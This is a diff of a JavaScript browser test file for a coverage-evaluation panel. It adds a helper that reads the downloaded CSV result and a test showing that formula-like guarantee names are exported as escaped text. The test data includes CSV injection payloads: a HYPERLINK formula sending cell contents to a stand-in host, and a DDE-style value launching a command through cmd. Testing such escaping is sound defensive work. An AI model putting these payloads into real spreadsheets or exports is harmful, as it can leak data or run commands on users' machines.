@@ -4,7 +4,7 @@ import { after, before, test } from "node:test";
 import {
   actsFile, choose, counts, coverage, exampleFile, openBatch, OUTCOME_CODES, plain, repeated, result, rowsToLookAt, table, WORDS,
 } from "./batch-panel.mjs";
-import { dropFiles, openPage, outcomeOf, startBrowser, writeText } from "./browser.mjs";
+import { chooseFiles, dropFiles, file, openPage, outcomeOf, rule, startBrowser, writeText } from "./browser.mjs";
 
 let browser;
 before(async () => (browser = await startBrowser()));
@@ -28,6 +28,14 @@ async function assertCounts(page, text, format) {
 }
 
 const sorted = (object) => Object.entries(object).sort();
+/** What the button gives: the name of the file, and its text. */
+async function downloadedFrom(page) {
+  const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Download the result (CSV)" }).click()]);
+  const chunks = [];
+  for await (const chunk of await download.createReadStream()) chunks.push(chunk);
+  return { name: download.suggestedFilename(), text: Buffer.concat(chunks).toString() };
+}
+
 const lookAt = (page, words) => page.getByRole("group", { name: "Which rows are listed" }).getByRole("button", { name: words }).click();
 
 test("the example file: from nothing to numbers, bars and rows", async () => {
@@ -123,14 +131,40 @@ test("the result is downloaded: number, outcome and guarantee of every row", asy
   const text = repeated(45_000);
   await choose(page, actsFile("many.acts.csv", text));
   await result(page, "many.acts.csv").waitFor();
-  const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Download the result (CSV)" }).click()]);
-  assert.equal(download.suggestedFilename(), "many.acts-result.csv");
-  const chunks = [];
-  for await (const chunk of await download.createReadStream()) chunks.push(chunk);
+  const downloaded = await downloadedFrom(page);
+  assert.equal(downloaded.name, "many.acts-result.csv");
   const { outcomes, guarantees, length } = coverage.evaluateText(text, "csv");
   const names = coverage.guaranteeNames;
   const expected = Array.from({ length }, (_, row) => `${row + 1},${OUTCOME_CODES[outcomes[row]]},${names[guarantees[row]] ?? ""}`);
-  assert.equal(Buffer.concat(chunks).toString(), ["row,outcome,guarantee", ...expected, ""].join("\r\n"));
+  assert.equal(downloaded.text, ["row,outcome,guarantee", ...expected, ""].join("\r\n"));
+});
+
+test("names of guarantees that a spreadsheet would take for formulas are only texts in the downloaded result", async () => {
+  const cells = {
+    '=HYPERLINK("http://x"&A1,"x")': `"'=HYPERLINK(""http://x""&A1,""x"")"`,
+    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1": "'+1",
+    "-1": "'-1",
+    "\tTAB": `"'\tTAB"`,
+    "\rCR": `"'\rCR"`,
+    "＝1": "'＝1",
+    "a;=1": `"a;'=1"`,
+    "DENTAL, care": '"DENTAL, care"',
+  };
+  const names = Object.keys(cells);
+  const catalog = {
+    care_type_groups: [{ id: 1, short_code: "ALL" }],
+    internal_care_types: names.map((_, index) => ({ id: index + 1, short_code: `TYPE_${index}`, care_type_group_ids: [1] })),
+  };
+  const guarantees = names.map((name, index) => ({ name, care_type_mappings: [{ selector: { include_care_types: [`TYPE_${index}`] }, filter: {} }], coverage_rule: rule }));
+  const page = await openPage(browser, { fragment: "#batch" });
+  await chooseFiles(page, file("types.json", catalog), file("coverage.json", { name: "ODD", version: 1, guarantees }));
+  await page.getByText("The coverage is loaded: coverage.json.").waitFor();
+  await choose(page, actsFile("acts.csv", `care_type\n${names.map((_, index) => `TYPE_${index}\n`).join("")}`));
+  await result(page, "acts.csv").waitFor();
+  const rows = Object.values(cells).map((cell, index) => `${index + 1},covered,${cell}`);
+  assert.equal((await downloadedFrom(page)).text, ["row,outcome,guarantee", ...rows, ""].join("\r\n"));
+  assert.deepEqual(page.errors, []);
 });
 
 test("a file that is dropped in any view is evaluated, one at a time; documents are loaded as everywhere", async () => {
